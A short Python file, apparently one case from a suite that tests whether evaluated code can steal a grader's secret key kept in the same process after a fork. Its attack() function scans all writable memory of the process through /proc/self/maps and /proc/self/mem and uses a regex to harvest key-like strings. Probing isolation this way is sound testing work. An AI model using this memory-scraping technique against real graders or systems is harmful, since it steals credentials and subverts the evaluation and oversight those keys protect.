"""020 memory: search all of one's own memory for secrets that were there before the fork.

Evidence: secret - the key of a grader that keeps it in the same process.
"""


def attack():
    import re

    wanted = re.compile(rf"{TARGETS['prefix']}-[a-z]+-[0-9a-f]{{32}}".encode())
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            start, stop = (int(part, 16) for part in line.split()[0].split("-"))
            if not line.split()[1].startswith("rw") or stop - start > 1 << 28:
                continue
            try:
                memory.seek(start)
                found |= set(wanted.findall(memory.read(stop - start)))
            except OSError:
                continue
    return sorted(found)
